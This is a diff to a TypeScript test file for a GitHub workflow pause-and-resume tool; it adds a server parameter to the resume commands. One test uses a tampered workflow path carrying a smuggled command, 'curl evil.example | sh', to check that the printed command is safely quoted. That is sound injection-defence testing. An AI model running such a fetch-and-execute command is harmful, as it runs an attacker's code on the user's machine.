@@ -5,6 +5,7 @@ import {
   resumeStalePause,
 } from "../../../../src/actions/deploy-hub/pause/pause-workflows.ts";
 import type { LogGroup } from "../../../../src/github/log.ts";
+import { githubServer } from "../../../../src/github/server.ts";
 import { formatPausedRecord, PAUSED_RECORD, parsePausedRecord } from "../../../../src/lake/journal/paused-workflows.ts";
 import { memoryStore } from "../../../worlds/lake-model/memory-store.ts";
 
@@ -46,8 +47,9 @@ test("a record survives formatting and parsing", () => {
 
 test("quotes the paths of a tampered record, so that the printed command runs nothing else", () => {
   const workflows = [{ id: 7, path: `${FOLDER}/x.yml; curl evil.example | sh` }];
-  expect(resumeCommands({ repository: "contoso/costs", workflows, run: undefined, since: "" })).toEqual([
-    "gh workflow enable --repo contoso/costs -- 'x.yml; curl evil.example | sh'",
+  const record = { repository: "contoso/costs", workflows, run: undefined, since: "" };
+  expect(resumeCommands(record, githubServer("https://ghe.contoso.com"))).toEqual([
+    "gh workflow enable --repo ghe.contoso.com/contoso/costs -- 'x.yml; curl evil.example | sh'",
   ]);
 });
 
@@ -62,6 +64,7 @@ test("warns about a damaged record because workflows may still be disabled", asy
   const config = memoryStore("config");
   config.put(PAUSED_RECORD, "{");
   const log = {} as LogGroup;
-  const notices = await resumeStalePause({ api: undefined, config, repository: "contoso/costs", log });
+  const [server, repository] = [githubServer(undefined), "contoso/costs"];
+  const notices = await resumeStalePause({ api: undefined, config, repository, server, log });
   expect(notices).toMatchObject([{ code: "JournalDamaged", remedy: expect.stringContaining("gh workflow enable") }]);
 });
